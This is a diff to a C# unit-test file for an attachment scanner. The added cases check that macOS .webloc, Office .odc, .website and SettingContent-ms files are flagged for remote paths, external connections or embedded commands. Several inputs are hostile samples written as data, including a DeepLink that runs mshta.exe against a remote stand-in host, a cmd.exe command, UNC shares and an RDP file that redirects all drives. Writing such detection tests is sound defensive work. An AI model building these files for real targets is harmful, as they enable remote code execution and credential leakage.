@@ -45,6 +45,17 @@ public sealed class LinkTests
     }
 
     [Theory]
+    [InlineData("a.webloc", "<?xml version=\"1.0\"?><plist><dict><key>URL</key><string>file:///Volumes/s/a.app</string></dict></plist>", ActiveContent.RemotePath)]
+    [InlineData("a.webloc", "<?xml version=\"1.0\"?><plist><dict><key>URL</key><string>https://a.example/</string></dict></plist>", ActiveContent.None)]
+    [InlineData("a.odc", "<html><xml><odc:OfficeDataConnection><odc:ConnectionString>Provider=x;Data Source=\"http://h.example/q\"</odc:ConnectionString></odc:OfficeDataConnection></xml></html>", ActiveContent.ExternalObject)]
+    [InlineData("a.odc", "<html><xml><odc:OfficeDataConnection><odc:ConnectionString>Provider=SQLOLEDB;Data Source=sales</odc:ConnectionString></odc:OfficeDataConnection></xml></html>", ActiveContent.None)]
+    public void A_file_of_data_or_of_macOS_says_where_it_leads(string name, string content, ActiveContent expected)
+    {
+        using var anatomy = PartSamples.Examine(content, name);
+        Assert.Equal(expected, anatomy.Attachment().Active);
+    }
+
+    [Theory]
     [InlineData("a.url", "[InternetShortcut]\r\nURL=https://a.example/", ActiveContent.None, "https://a.example/")]
     [InlineData("a.url", "[InternetShortcut]\r\nURL=file://10.0.0.1/share/x.exe", ActiveContent.RemotePath | ActiveContent.ShortcutCommand, "file://10.0.0.1/share/x.exe")]
     [InlineData("a.url", "[InternetShortcut]\r\nURL=file:///\\\\10.0.0.1\\share\\x.zip", ActiveContent.RemotePath, "file:///\\\\10.0.0.1\\share\\x.zip")]
@@ -54,6 +65,8 @@ public sealed class LinkTests
     [InlineData("a.searchConnector-ms", "<searchConnectorDescription><simpleLocation><url>https://h.example/dav</url></simpleLocation></searchConnectorDescription>", ActiveContent.RemotePath, "https://h.example/dav")]
     [InlineData("a.search-ms", "<persistedQuery><scope><include path=\"\\\\h.example\\s\"/></scope></persistedQuery>", ActiveContent.RemotePath, @"\\h.example\s")]
     [InlineData("a.SettingContent-ms", "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c x</DeepLink></ApplicationInformation></SearchableContent></PCSettings>", ActiveContent.ShortcutCommand, "")]
+    [InlineData("a.website", "[InternetShortcut]\r\nURL=search:query=x&crumb=location:\\\\h.example\\s", ActiveContent.RemotePath, "search:query=x&crumb=location:\\\\h.example\\s")]
+    [InlineData("a.SettingContent-ms", "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>mshta.exe https://h.example/x</DeepLink></ApplicationInformation></SearchableContent></PCSettings>", ActiveContent.ShortcutCommand | ActiveContent.RemotePath, "https://h.example/x")]
     [InlineData("a.theme", "[Theme]\r\nBrandImage=\\\\h.example\\x.png", ActiveContent.RemotePath, @"\\h.example\x.png")]
     [InlineData("a.rdp", "screen mode id:i:2\r\nfull address:s:h.example:3389\r\ndrivestoredirect:s:*", ActiveContent.RemotePath, "")]
     [InlineData("a.rdp", "remoteapplicationprogram:s:||app\r\nfull address:s:h.example", ActiveContent.RemotePath | ActiveContent.ShortcutCommand, "")]
